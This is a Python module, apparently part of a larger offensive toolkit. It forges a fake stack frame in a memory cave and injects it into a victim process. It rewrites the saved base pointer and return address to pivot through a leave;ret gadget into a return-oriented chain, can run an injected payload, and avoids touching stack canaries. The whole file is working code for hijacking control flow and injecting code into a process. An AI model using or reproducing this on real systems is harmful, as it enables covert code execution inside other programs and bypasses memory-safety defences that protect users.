"""Fake stack frame forging and injection.

The pivot works entirely through data: the victim's saved base pointer is
redirected at a forged frame image inside a cave, and the saved return
address is replaced with the address of a function epilogue (leave; ret).
When the victim function returns, the epilogue runs a second time with the
attacker's frame, popping the original saved base pointer from the image
and then returning into the chain words that follow it.  Stack canaries sit
below the saved-base-pointer slot and are never touched.
"""

from __future__ import annotations

from dataclasses import dataclass

from . import explorer
from .memspace import PAGE_SIZE, AddressSpace, MemoryFault
from .probe import WRITABLE
from .gadgets import ChainWord
from .caves import CaveRegion


class InjectionError(Exception):
    """Forge or inject could not proceed; memory is left as found."""


@dataclass(frozen=True, slots=True)
class VictimFrame:
    """A located (saved rbp, saved rip) slot pair on the victim stack.

    The ``resume_*`` properties are where execution, stack and base pointer
    must end up afterwards: the state the victim's own ``leave; ret`` would
    have produced.
    """

    rbp_slot_addr: int
    saved_rbp: int
    saved_rip: int
    canary_slot_addr: int

    @property
    def resume_rip(self) -> int:
        return self.saved_rip

    @property
    def resume_rbp(self) -> int:
        return self.saved_rbp

    @property
    def resume_rsp(self) -> int:
        return self.rbp_slot_addr + 16


def payload_offset(chain_words: int) -> int:
    """Offset of the payload from the image base: the first 16-byte
    boundary after the saved-rbp copy, ``chain_words`` chain words and the
    continuation word."""
    return (8 * (chain_words + 2) + 15) & ~15


@dataclass(frozen=True, slots=True)
class FakeFrameImage:
    """Byte image planted at the cave base.

    ``words[0]`` is the copy of the victim's saved base pointer; the chain
    words follow, ending in the continuation word; an optional payload sits
    after them at ``payload_offset``.
    """

    base: int
    words: tuple[ChainWord, ...]
    payload: bytes
    payload_addr: int | None

    def image_bytes(self) -> bytes:
        blob = b"".join(w.value.to_bytes(8, "little") for w in self.words)
        if self.payload:
            pad = (self.payload_addr - self.base) - len(blob)
            blob += bytes(pad) + self.payload
        return blob

    @property
    def cleanup(self) -> tuple[int, int] | None:
        """(start, length) the payload must zero afterwards: the frame word,
        the chain words, and the alignment padding before the payload.  The
        payload cannot be in it; code cannot zero bytes it has yet to
        execute.  None without a payload, since nothing zeroes the cave."""
        if self.payload_addr is None:
            return None
        return self.base, self.payload_addr - self.base


def locate_victim_frame(pm: explorer.PageMap, stack_ptr: int) -> VictimFrame:
    """The frame ``explorer.frame_above`` finds above ``stack_ptr``, with
    the slot conventionally holding the stack canary, just below the saved
    base pointer."""
    try:
        slot, rbp, rip = explorer.frame_above(pm, stack_ptr)
    except explorer.NoFrameError as exc:
        raise InjectionError(str(exc)) from None
    return VictimFrame(slot, rbp, rip, canary_slot_addr=slot - 8)


def forge_fake_frame(
    victim: VictimFrame,
    chain: tuple[ChainWord, ...],
    payload: bytes,
    cave: CaveRegion,
) -> FakeFrameImage:
    """Lay out the frame image for a cave: saved-rbp copy, chain words, a
    continuation word, then the payload at ``payload_offset``.

    The continuation is the payload address when a payload is present;
    otherwise the chain ends directly in the victim's original return
    address and execution resumes without running injected code.  Nothing
    is written here; the image is data until inject() plants it.
    """
    words = [ChainWord(victim.saved_rbp, "saved-rbp"), *chain]
    if payload:
        payload_addr = cave.start + payload_offset(len(chain))
        words.append(ChainWord(payload_addr, "resume-address"))
        total = (payload_addr - cave.start) + len(payload)
    else:
        payload_addr = None
        words.append(ChainWord(victim.saved_rip, "resume-address"))
        total = 8 * len(words)
    if total > cave.length:
        raise InjectionError(
            f"image of {total:#x} bytes exceeds the {cave.length:#x}-byte cave"
        )
    return FakeFrameImage(
        base=cave.start,
        words=tuple(words),
        payload=payload,
        payload_addr=payload_addr,
    )


def inject(
    pm: explorer.PageMap,
    victim: VictimFrame,
    image: FakeFrameImage,
    epilogue_gadget_addr: int,
) -> None:
    """Plant the image and arm the victim frame, on the store's verdicts.

    Every page either write touches is clawed through ``pm`` first; the
    store already holds them, so this pays no transaction.  The first page
    not writable raises InjectionError with nothing written.  The frame
    slots and the epilogue are then read through ``pm``.  The image goes
    into the cave first, then both frame slots in one 16-byte write, so the
    frame is never half-armed.  The canary slot below the frame is never
    written."""
    slot = victim.rbp_slot_addr
    frame = image.base.to_bytes(8, "little")
    frame += epilogue_gadget_addr.to_bytes(8, "little")
    writes = ((image.base, image.image_bytes()), (slot, frame))
    for addr, data in writes:
        for base in range(AddressSpace.page_base(addr), addr + len(data), PAGE_SIZE):
            if pm.claw(base) is not WRITABLE:
                raise InjectionError(f"page {base:#x} is not writable")
    current = pm.read(slot, 16)
    cur_rbp = int.from_bytes(current[:8], "little")
    cur_rip = int.from_bytes(current[8:], "little")
    if cur_rbp != victim.saved_rbp or cur_rip != victim.saved_rip:
        raise InjectionError(
            "victim frame slots changed since location; already armed?"
        )
    try:
        gadget = pm.read(epilogue_gadget_addr, 2)
    except MemoryFault:
        raise InjectionError("epilogue gadget address is unreadable") from None
    if gadget != b"\xc9\xc3":
        raise InjectionError("epilogue gadget is not a leave; ret site")
    for addr, data in writes:
        pm.prober.safe_write(pm.space, addr, data)
